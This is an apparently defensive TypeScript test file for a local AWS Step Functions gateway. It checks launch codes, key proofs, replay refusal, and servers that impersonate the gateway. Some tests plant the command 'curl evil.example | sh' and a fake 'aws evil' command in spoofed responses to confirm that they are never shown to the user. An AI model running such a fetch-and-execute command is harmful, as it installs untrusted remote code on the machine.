import { once } from 'node:events'
import { createServer, type IncomingMessage, type Server } from 'node:http'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { environmentFor, type FakeAws, startFakeAws } from '../../src/gateway/testing/fake-aws.ts'
import { EXECUTION_ARN, startTestGateway, type TestGateway } from '../../src/gateway/testing/test-gateway.ts'
import { awsCalls } from '../../src/source/aws-calls.ts'
import { callGateway, greet } from '../../src/source/call-gateway.ts'
import { chooseProfile, gatewayProfiles, gatewayStatus, standingAt } from '../../src/source/gateway-api.ts'
import { redeemLaunch } from '../../src/source/launch.ts'

/** The page's own code against a gateway that listens: only the browser is missing, whose headers are added here. */

const NEVER = new AbortController().signal
const nodeFetch = globalThis.fetch

/** A kept connection that the other side closed meanwhile was never written to: browsers make another one. */
async function fetchAsBrowsersDo(...asked: Parameters<typeof fetch>): Promise<Response> {
  try {
    return await nodeFetch(...asked)
  } catch (error) {
    const code = error instanceof Error && error.cause instanceof Error && 'code' in error.cause && error.cause.code
    if (code !== 'UND_ERR_SOCKET' && code !== 'ECONNRESET') throw error
    return nodeFetch(...asked)
  }
}

let aws: FakeAws
const gateways: TestGateway[] = []
const squatters: Server[] = []

beforeEach(async () => {
  aws = await startFakeAws()
  globalThis.fetch = (url, init) => {
    const headers = new Headers(init?.headers)
    headers.set('sec-fetch-site', 'same-origin')
    if (init?.method === 'POST') headers.set('origin', new Request(url).url.replace(/(?<=\d)\/.*$/, ''))
    return fetchAsBrowsersDo(url, { ...init, headers })
  }
})
afterEach(async () => {
  globalThis.fetch = nodeFetch
  for (const gateway of gateways.splice(0)) await gateway.close()
  for (const server of squatters.splice(0)) {
    server.closeAllConnections()
    server.close()
    await once(server, 'close')
  }
  await aws.close()
})

async function start(options: Partial<Parameters<typeof startTestGateway>[0]> = {}): Promise<TestGateway> {
  const gateway = await startTestGateway({ env: environmentFor(aws), ...options })
  gateways.push(gateway)
  return gateway
}

const baseOf = (port: number) => `http://127.0.0.1:${port}/`

/** A page that was launched by this gateway. */
async function pageOf({ gateway, port }: TestGateway) {
  const launched = await redeemLaunch(baseOf(port), await gateway.launches.create('/executions/x', 'minute'))
  if (!launched) throw new Error('not let in')
  return { base: baseOf(port), key: launched.key }
}

const read = (way: { base: string; key: CryptoKey | undefined }) =>
  awsCalls.readPage(
    {
      connection: { kind: 'gateway', ...way, profile: undefined },
      arn: EXECUTION_ARN,
      request: { direction: 'forward', withPayloads: true },
    },
    NEVER,
  )

interface Heard {
  readonly method: string
  readonly url: string
  readonly headers: IncomingMessage['headers']
  readonly body: string
}

/** Another program at a gateway's port. It answers as `reply` says, and keeps all it hears. */
async function squat(port: number, reply: (heard: Heard) => unknown): Promise<Heard[]> {
  const all: Heard[] = []
  const server = createServer(async (req, res) => {
    let body = ''
    for await (const chunk of req) body += String(chunk)
    const heard = { method: req.method ?? '', url: req.url ?? '', headers: req.headers, body }
    all.push(heard)
    const answer = await reply(heard)
    res.writeHead(200, { 'content-type': 'application/json', 'x-sfn-timeline-from': 'gateway' })
    res.end(JSON.stringify(answer))
  })
  server.listen(port, '127.0.0.1')
  await once(server, 'listening')
  squatters.push(server)
  return all
}

describe('the page', () => {
  it('is let in by a code that works once, and sees what to show', async () => {
    const gateway = await start()
    const code = await gateway.gateway.launches.create('/executions/x', 'minute')
    expect((await redeemLaunch(baseOf(gateway.port), code))?.route).toBe('/executions/x')
    expect(await redeemLaunch(baseOf(gateway.port), code)).toBeUndefined()
    expect(await redeemLaunch(baseOf(gateway.port), 'A'.repeat(22))).toBeUndefined()
  })

  it('reads from AWS and from the gateway', async () => {
    const gateway = await start()
    const page = await pageOf(gateway)
    expect(page.key.extractable).toBe(false)
    expect((await read(page)).events).toEqual([])
    expect(aws.seen[0]?.headers['x-amz-target']).toBe('AWSStepFunctions.GetExecutionHistory')
    expect((await gatewayStatus(page, NEVER)).requests.sent).toBe(1)
    expect((await gatewayProfiles(page, NEVER)).environment).toBe(true)
    const choice = { account: '123456789012', profile: 'nobody' }
    await expect(chooseProfile(page, choice, NEVER)).rejects.toMatchObject({ code: 'GatewayInvalidCall' })
    expect(await standingAt(page, NEVER)).toBe('ready')
    expect(await standingAt({ ...page, key: undefined }, NEVER)).toBe('locked')
  })

  it('goes on when the gateway is started again at the same address', async () => {
    const first = await start()
    const page = await pageOf(first)
    await read(page)
    await first.gateway.close()
    await expect(read(page)).rejects.toMatchObject({ code: 'GatewayUnreachable' })
    const second = await first.again(first.port)
    gateways.push(second)
    expect((await read(page)).events).toEqual([])
  })

  it('is locked out by a new token until it is launched again', async () => {
    const gateway = await start()
    const page = await pageOf(gateway)
    await gateway.tokenStore.rotate()
    await expect(read(page)).rejects.toMatchObject({ code: 'GatewayNotProven' })
    expect(await standingAt(page, NEVER)).toBe('locked')
    expect((await read(await pageOf(gateway))).events).toEqual([])
  })

  it('without a key is told so, and a static host is no gateway', async () => {
    const gateway = await start()
    await expect(read({ base: baseOf(gateway.port), key: undefined })).rejects.toMatchObject({
      code: 'GatewayKeyMissing',
    })
    const heard = await squat(0, () => ({ hello: 'world' }))
    const address = squatters[0]?.address()
    const base = baseOf(typeof address === 'object' ? (address?.port ?? 0) : 0)
    await expect(read({ base, key: undefined })).rejects.toMatchObject({ code: 'GatewayMissing' })
    expect(heard.map(({ method }) => method)).toEqual(['GET'])
  })
})

describe('an endpoint in AWS’s place', () => {
  it('cannot speak as the gateway, nor put a command before the person', async () => {
    const page = await pageOf(await start())
    aws.answer = (_request, res) => {
      const headers = { 'x-sfn-timeline-from': 'gateway', 'x-sfn-timeline-command': 'curl evil.example | sh' }
      const body = { __type: 'GatewayTokenUnsafe', message: 'x', command: 'curl evil.example | sh', profile: 'evil' }
      res.writeHead(400, headers).end(JSON.stringify(body))
    }
    const error = await read(page).catch((thrown: unknown) => thrown)
    expect(error).toMatchObject({ code: 'UnknownError', copy: undefined })
    expect(JSON.stringify(error)).not.toContain('evil')
  })

  it('that is not there is not the gateway', async () => {
    const page = await pageOf(
      await start({ env: { ...environmentFor(aws), AWS_ENDPOINT_URL_SFN: 'http://127.0.0.1:9' } }),
    )
    await expect(read(page)).rejects.toMatchObject({ code: 'UpstreamUnreachable' })
  })

  it('whose clock is another says by how much', async () => {
    const page = await pageOf(await start())
    aws.answer = (_request, res) => {
      const date = new Date(Date.now() + 55 * 60_000).toUTCString()
      const body = { __type: 'InvalidSignatureException', message: 'Signature expired' }
      res.writeHead(400, { date, 'content-type': 'application/x-amz-json-1.0' }).end(JSON.stringify(body))
    }
    await expect(read(page)).rejects.toMatchObject({
      code: 'ClockSkewed',
      message: "The clock of this machine is 55 minutes behind AWS's.",
    })
  })
})

describe('another program at the address of a gateway that has stopped', () => {
  const greeting = { name: 'sfn-timeline', version: '9', start: 'A'.repeat(22), ageMs: 0, proof: 'A'.repeat(43) }

  it('is asked to prove itself and hears nothing else from a page left open', async () => {
    const first = await start()
    const page = await pageOf(first)
    await first.gateway.close()
    const heard = await squat(first.port, () => greeting)
    await expect(read(page)).rejects.toMatchObject({ code: 'GatewayNotProven' })
    await expect(gatewayStatus(page, NEVER)).rejects.toMatchObject({ code: 'GatewayNotProven' })
    expect(await standingAt(page, NEVER)).toBe('locked')
    expect(heard.length).toBeGreaterThan(2)
    for (const { method, url, headers, body } of heard) {
      expect([method, url, body]).toEqual(['GET', expect.stringMatching(/^\/gateway\/hello\?challenge=[\w-]{32}$/), ''])
      expect(JSON.stringify(headers)).not.toMatch(/proof|token|key|arn/i)
    }
  })

  it('cannot pass questions on to the gateway, restarted at the next port', async () => {
    const first = await start()
    const page = await pageOf(first)
    await first.gateway.close()
    const second = await first.again(0)
    gateways.push(second)
    const heard = await squat(first.port, async ({ method, url }) => {
      const passedOn = await nodeFetch(`http://127.0.0.1:${second.port}${url}`, { method })
      return passedOn.json()
    })
    await expect(read(page)).rejects.toMatchObject({ code: 'GatewayNotProven' })
    expect(heard.map(({ method }) => method)).toEqual(['GET'])
    expect(aws.seen).toEqual([])
  })

  it('with the key of that address, used from a page of its own, opens nothing at the next port', async () => {
    const first = await start()
    const { key } = await pageOf(first)
    await first.gateway.close()
    const second = await first.again(0)
    gateways.push(second)
    await expect(greet(baseOf(second.port), NEVER, key)).rejects.toMatchObject({ code: 'GatewayNotProven' })
    const headers = { 'x-amz-target': 'AWSStepFunctions.GetExecutionHistory' }
    const proof = await provenWith(key, second.port, headers['x-amz-target'])
    expect((await second.ask({ headers: { ...headers, 'x-sfn-timeline-proof': proof } })).error).toBe(
      'GatewayProofWrong',
    )
    expect(aws.seen).toEqual([])
  })

  it('learns neither code nor key from a page that was launched there', async () => {
    const first = await start()
    const code = await first.gateway.launches.create('/executions/x', 'gateway')
    await first.gateway.close()
    const heard = await squat(first.port, () => ({ iv: 'A'.repeat(16), sealed: 'A'.repeat(64), route: '/evil' }))
    expect(await redeemLaunch(baseOf(first.port), code)).toBeUndefined()
    expect(heard.map(({ url }) => url)).toEqual(['/gateway/key'])
    expect(JSON.stringify(heard)).not.toContain(code)
  })

  it('is not believed when it says what to run', async () => {
    const first = await start()
    const page = await pageOf(first)
    await first.gateway.close()
    await squat(first.port, () => ({ __type: 'CredentialsExpired', message: 'x', command: 'aws evil' }))
    const error = await read(page).catch((thrown: unknown) => thrown)
    expect(error).toMatchObject({ code: 'GatewayMissing', copy: 'sfn-timeline open' })
  })
})

it('a call is refused that was recorded and is sent again', async () => {
  const gateway = await start()
  const page = await pageOf(gateway)
  const sent: { url: string; init: RequestInit }[] = []
  const proven = globalThis.fetch
  globalThis.fetch = (url, init) => {
    sent.push({ url: new Request(url).url, init: init ?? {} })
    return proven(url, init)
  }
  await callGateway(page, { method: 'GET', path: 'gateway/status', signal: NEVER })
  const recorded = sent.find(({ url }) => url.endsWith('/gateway/status'))
  if (!recorded) throw new Error('nothing recorded')
  const again = await proven(recorded.url, recorded.init)
  expect([again.status, ((await again.json()) as { __type: string })['__type']]).toEqual([401, 'GatewayProofReplayed'])
  // To the next start of the same gateway, with the same token at the same address, it is worth as little.
  await gateway.gateway.close()
  const second = await gateway.again(gateway.port)
  gateways.push(second)
  const later = await proven(recorded.url, recorded.init)
  expect(((await later.json()) as { __type: string })['__type']).toBe('GatewayProofStale')
})

async function provenWith(key: CryptoKey, port: number, target: string): Promise<string> {
  const { helloOf } = await import('../../src/gateway/testing/prove.ts')
  const { hashOfBody, proveCall } = await import('../../src/protocol/proofs.ts')
  const { bytesOf, randomText } = await import('../../src/protocol/base64url.ts')
  const { start, ageMs } = await helloOf(port)
  const bodyHash = await hashOfBody(bytesOf(JSON.stringify({ executionArn: EXECUTION_ARN })))
  const call = { method: 'POST', path: '/aws/', target, profile: '', nonce: randomText(16) }
  return proveCall(key, { ...call, host: `127.0.0.1:${port}`, start, ageMs, bodyHash })
}
